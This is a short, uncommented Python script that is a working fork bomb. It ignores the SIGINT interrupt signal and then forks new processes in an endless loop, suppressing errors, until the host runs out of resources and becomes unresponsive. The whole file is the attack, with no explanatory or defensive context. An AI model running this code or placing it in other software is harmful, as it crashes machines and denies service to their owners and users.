import os
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        pass
